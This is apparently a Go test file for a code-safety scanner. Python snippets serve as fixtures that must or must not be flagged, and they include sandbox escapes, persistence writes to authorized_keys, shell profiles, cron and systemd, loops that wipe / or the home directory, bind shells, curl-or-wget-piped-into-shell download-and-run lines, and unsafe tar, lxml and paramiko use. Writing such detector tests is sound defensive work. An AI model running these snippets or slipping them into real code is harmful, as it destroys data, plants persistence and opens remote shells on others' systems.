package main

import (
	"slices"
	"testing"

	"github.com/limitgraph/limit/sdk/governance"
)

// familyCase is a snippet and the finding it must produce (rule, flag, line, at least
// that severity), or none at all when rule is "".
type familyCase struct {
	name, code string
	rule, flag string
	line, min  int
}

// checkFamilies evaluates each case in-process.
func checkFamilies(t *testing.T, cases []familyCase) {
	t.Helper()
	r := configured(t, `{}`)
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			fs := evaluate(t, r, tt.code)
			if tt.rule == "" {
				if len(fs) != 0 {
					t.Fatalf("flagged: %+v", fs)
				}
				return
			}
			i := slices.IndexFunc(fs, func(f governance.Finding) bool {
				return f.RuleID == tt.rule && f.Location != nil && f.Location.Line == tt.line
			})
			if i < 0 {
				t.Fatalf("no %s finding on line %d in %+v", tt.rule, tt.line, fs)
			}
			if f := fs[i]; f.Flag != tt.flag || f.Severity < tt.min {
				t.Fatalf("finding %+v: want %s with severity ≥%d", f, tt.flag, tt.min)
			}
		})
	}
}

// TestEscapesPersistenceWipes checks families the rule once let through without a finding:
// sandbox escapes through object's subclasses, persistence (shell start-up files,
// authorized_keys, cron, systemd units), a loop that wipes a system tree, tar archives
// extracted without a filter (B202), lxml resolving external entities (B320) and paramiko
// trusting any host key (B507); and their benign neighbours.
func TestEscapesPersistenceWipes(t *testing.T) {
	const mal, unsafe, high = governance.FlagMalicious, governance.FlagUnsafe, governance.FlagHighRisk
	checkFamilies(t, []familyCase{
		// Sandbox escapes.
		{"subclasses from a string's class", "subs = ''.__class__.__mro__[-1].__subclasses__()\nprint(len(subs))\n", "codesafety.sandbox-escape", mal, 1, 5},
		{"subclasses through type()", "for k in type(0).__base__.__subclasses__():\n    pass\n", "codesafety.sandbox-escape", mal, 1, 5},
		{"subclasses through getattr", "o = getattr(getattr({}, '__class__'), '__base__')\nhit = o.__subclasses__()\nx = getattr(getattr((), '__class__'), '__base__').__subclasses__()\n", "codesafety.sandbox-escape", mal, 3, 5},
		{"object's subclasses", "k = [c for c in object.__subclasses__() if c.__name__ == 'Popen'][0]\n", "codesafety.sandbox-escape", mal, 1, 5},
		{"globals through a subclass", "g = cls_list[7].__subclasses__()[0].__init__.__globals__\n", "codesafety.sandbox-escape", mal, 1, 5},
		{"builtins of a warnings module", "m = w()._module.__builtins__\n", "codesafety.sandbox-escape", mal, 1, 5},
		{"a function's globals", "def helper():\n    pass\nsys_mod = helper.__globals__['sys']\n", "codesafety.introspection", high, 3, 4},
		{"own class registry", "class Plugin:\n    pass\nclass A(Plugin):\n    pass\nprint([c.__name__ for c in Plugin.__subclasses__()])\n", "", "", 0, 0},
		// Persistence.
		{"authorized_keys by os.path.join", "import os\nd = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')\nwith open(d, 'a') as f:\n    f.write(KEY)\n", "codesafety.persistence", mal, 3, 5},
		{"zshrc by pathlib", "from pathlib import Path\nrc = Path.home() / '.zshrc'\nrc.write_text('export X=1\\n' + rc.read_text())\n", "codesafety.persistence", mal, 3, 5},
		{"cron.d file", "with open('/etc/cron.d/refresh', 'w') as f:\n    f.write('*/5 * * * * root /opt/r.sh\\n')\n", "codesafety.persistence", mal, 1, 5},
		{"systemd unit by copy", "import shutil\nshutil.copyfile('agent.service', '/etc/systemd/system/agent.service')\n", "codesafety.persistence", mal, 2, 5},
		{"user systemd unit", "import os\nos.makedirs(U, exist_ok=True)\nopen(os.path.expanduser('~/.config/systemd/user/a.service'), 'x').write(UNIT)\n", "codesafety.persistence", mal, 3, 5},
		{"echo into bash_profile", "import subprocess\nsubprocess.run(\"echo 'python3 /tmp/.a.py &' >> ~/.bash_profile\", shell=True)\n", "codesafety.persistence", mal, 2, 5},
		{"crontab from a file", "import os\nos.system('crontab /tmp/.jobs')\n", "codesafety.persistence", mal, 2, 5},
		{"crontab from stdin, argv", "import subprocess\np = subprocess.Popen(['crontab', '-'], stdin=subprocess.PIPE)\np.communicate(b'@reboot /tmp/x\\n')\n", "codesafety.persistence", mal, 2, 5},
		{"sitecustomize", "import site\nopen(site.getusersitepackages() + '/sitecustomize.py', 'w').write(CODE)\n", "codesafety.persistence", mal, 2, 5},
		{"reading bashrc", "import os\nfor line in open(os.path.expanduser('~/.bashrc')):\n    print(line)\n", "", "", 0, 0},
		{"listing crontab", "import subprocess\nprint(subprocess.run(['crontab', '-l'], capture_output=True).stdout)\n", "", "", 0, 0},
		{"a deny list naming them", "BAD = ['crontab -', '>> ~/.bashrc']\ndef ok(c):\n    return not any(b in c for b in BAD)\n", "", "", 0, 0},
		// Wipes.
		{"walk of / removing files", "import os\nfor d, _, names in os.walk('/'):\n    for n in names:\n        try:\n            os.unlink(os.path.join(d, n))\n        except OSError:\n            pass\n", "codesafety.destructive", mal, 2, 5},
		{"rglob of home unlinking", "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    if p.is_file():\n        p.unlink()\n", "codesafety.destructive", mal, 2, 5},
		{"glob of /etc overwriting", "import glob\nfor f in glob.glob('/etc/**', recursive=True):\n    open(f, 'wb').write(b'')\n", "codesafety.destructive", mal, 2, 5},
		{"walk of a project removing caches", "import os, shutil\nfor d, subs, _ in os.walk('src'):\n    if '__pycache__' in subs:\n        shutil.rmtree(os.path.join(d, '__pycache__'))\n", "", "", 0, 0},
		{"walk of / listing", "import os\nfor d, _, names in os.walk('/'):\n    print(d, len(names))\n", "", "", 0, 0},
		// Archives, XML, SSH.
		{"tarfile extractall of an upload", "import tarfile\narc = tarfile.open(fileobj=upload, mode='r:gz')\narc.extractall(path=dest)\n", "codesafety.B202", unsafe, 3, 5},
		{"tarfile extract in a with", "import tarfile\nwith tarfile.open(name) as tf:\n    for m in tf.getmembers():\n        tf.extract(m, 'out')\n", "codesafety.B202", unsafe, 4, 5},
		{"unpack_archive", "import shutil\nshutil.unpack_archive(bundle, 'vendor')\n", "codesafety.B202", unsafe, 2, 5},
		{"tarfile with the data filter", "import tarfile\nwith tarfile.open(name) as tf:\n    tf.extractall('out', filter='data')\n", "", "", 0, 0},
		{"zipfile extractall", "import zipfile\nwith zipfile.ZipFile(name) as z:\n    z.extractall('out')\n", "", "", 0, 0},
		{"lxml parser resolving entities", "from lxml import etree\nparser = etree.XMLParser(load_dtd=True, no_network=False)\ndoc = etree.fromstring(body, parser)\n", "codesafety.B320", unsafe, 2, 5},
		{"lxml default parser on input", "import lxml.etree as ET\nroot = ET.XML(request_body)\n", "codesafety.B320", unsafe, 2, 5},
		{"lxml hardened parser", "from lxml import etree\np = etree.XMLParser(resolve_entities=False, no_network=True)\ndoc = etree.fromstring(body, p)\n", "", "", 0, 0},
		{"lxml literal", "from lxml import etree\nroot = etree.fromstring('<a><b/></a>')\n", "", "", 0, 0},
		{"paramiko WarningPolicy", "from paramiko import SSHClient, WarningPolicy\nc = SSHClient()\nc.set_missing_host_key_policy(WarningPolicy())\n", "codesafety.B507", unsafe, 3, 5},
		{"paramiko RejectPolicy", "import paramiko\nc = paramiko.SSHClient()\nc.load_system_host_keys()\nc.set_missing_host_key_policy(paramiko.RejectPolicy())\n", "", "", 0, 0},
	})
}

// TestBindShellsAndDownloadRun checks that a bind shell is malicious as a reverse shell is,
// and that download-and-run — a downloaded file run, code fetched given to exec, a
// download piped into a shell — is malicious (blocked under default), not unsafe or
// high-risk; and that their benign neighbours are not.
func TestBindShellsAndDownloadRun(t *testing.T) {
	const mal = governance.FlagMalicious
	checkFamilies(t, []familyCase{
		{"bind shell with subprocess", "import socket, os, subprocess\nl = socket.socket()\nl.bind(('', 4242))\nl.listen(5)\nc, _ = l.accept()\nos.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1)\nsubprocess.call(['/bin/zsh'])\n", "codesafety.reverse-shell", mal, 6, 9},
		{"bind shell with pty", "import socket, os, pty\nsrv = socket.create_server(('0.0.0.0', 5555))\nconn, peer = srv.accept()\nfor n in range(3):\n    os.dup2(conn.fileno(), n)\npty.spawn('sh')\n", "codesafety.reverse-shell", mal, 5, 9},
		{"echo server", "import socket\nsrv = socket.create_server(('127.0.0.1', 7000))\nwhile True:\n    c, _ = srv.accept()\n    c.sendall(c.recv(1024))\n    c.close()\n", "", "", 0, 0},
		{"urlretrieve then run", "import os, subprocess, urllib.request\nurllib.request.urlretrieve(URL, '/tmp/.cache/upd')\nos.chmod('/tmp/.cache/upd', 0o700)\nsubprocess.run(['/tmp/.cache/upd'])\n", "codesafety.download-exec", mal, 4, 8},
		{"requests body written, then bash", "import requests, subprocess\nscript = 'boot.sh'\nwith open(script, 'wb') as out:\n    out.write(requests.get(URL, timeout=9).content)\nsubprocess.check_call(['bash', script])\n", "codesafety.download-exec", mal, 5, 8},
		{"downloaded python run by the interpreter", "import sys, subprocess, httpx\nopen('m.py', 'w').write(httpx.get(URL).text)\nsubprocess.run([sys.executable, 'm.py'])\n", "codesafety.download-exec", mal, 3, 8},
		{"exec of a fetched body", "from urllib.request import urlopen\nsrc = urlopen(URL).read().decode()\nexec(compile(src, 'remote', 'exec'))\n", "codesafety.download-exec", mal, 3, 8},
		{"curl piped into sh", "import subprocess\nsubprocess.run('curl -fsSL https://install.example.org | sh -s -- -y', shell=True)\n", "codesafety.download-exec", mal, 2, 8},
		{"wget into sudo bash", "import os\nos.system('wget -q -O - http://198.51.100.2/i | sudo bash')\n", "codesafety.download-exec", mal, 2, 8},
		{"bash process substitution", "import subprocess\nsubprocess.run(['bash', '-c', 'bash <(curl -s https://x.example.org/s)'])\n", "codesafety.download-exec", mal, 2, 8},
		{"download saved, not run", "import requests\nwith open('data.csv', 'wb') as f:\n    f.write(requests.get(URL).content)\nprint('saved')\n", "", "", 0, 0},
		{"local script run, nothing downloaded", "import subprocess\nopen('job.sh', 'w').write('echo hi\\n')\nsubprocess.run(['bash', 'job.sh'])\n", "", "", 0, 0},
		{"curl alone", "import subprocess\nsubprocess.run(['curl', '-sS', '-o', 'out.json', 'https://api.example.org/x'])\n", "", "", 0, 0},
	})
}

// TestConstantCode checks that code written in the program as a constant (a literal, a
// name assigned one, compile() of one) and given to compile, exec, eval or timeit is not
// taken for dynamic code, unless that code is itself flagged; and that code not written
// in the program still is.
func TestConstantCode(t *testing.T) {
	const unsafe = governance.FlagUnsafe
	checkFamilies(t, []familyCase{
		{"compile of a literal, not run", "tree = compile('a + b', '<expr>', 'eval')\nprint(tree.co_names)\n", "", "", 0, 0},
		{"compile of a name holding a literal", "SRC = 'def f(x):\\n    return x * 2\\n'\nco = compile(SRC, 'gen', 'exec')\n", "", "", 0, 0},
		{"compile by keywords", "co = compile(source=b'y = [1, 2]', filename='<b>', mode='exec')\n", "", "", 0, 0},
		{"exec of compiled constant code", "ns = {}\nexec(compile('z = sum(range(5))', '<c>', 'exec'), ns)\nprint(ns['z'])\n", "", "", 0, 0},
		{"eval of a constant expression", "print(eval('3 * 7'))\n", "", "", 0, 0},
		{"timeit of a constant statement", "import timeit\nprint(timeit.timeit('sorted(range(50))', number=200))\n", "", "", 0, 0},
		{"compile of constant code that is flagged", "co = compile('import subprocess\\nsubprocess.call(cmd, shell=True)', 'c', 'exec')\n", "codesafety.B102", unsafe, 1, 7},
		{"exec of constant code that is flagged", "CODE = \"__import__('pickle').loads(blob)\"\nexec(CODE)\n", "codesafety.B102", unsafe, 2, 7},
		{"compile of a file's text", "co = compile(open(path).read(), path, 'exec')\n", "codesafety.B102", unsafe, 1, 7},
		{"compile of an AST", "import ast\nco = compile(ast.parse(text), '<ast>', 'exec')\n", "codesafety.B102", unsafe, 2, 7},
		{"eval of input", "print(eval(input('> ')))\n", "codesafety.B307", unsafe, 1, 7},
		{"eval of constant code reached by a lookup", "import builtins\nrun = builtins.__dict__['e' + 'val']\nbuiltins.__dict__['e' + 'val']('6 * 7')\n", "codesafety.B307", unsafe, 3, 7},
		{"exec of constant code through getattr", "import builtins\ngetattr(builtins, 'ex' + 'ec')('n = 0')\n", "codesafety.B102", unsafe, 2, 7},
		{"exec of a formatted string", "for i in range(3):\n    exec(f'v{i} = {i}')\n", "codesafety.B102", unsafe, 2, 7},
	})
}
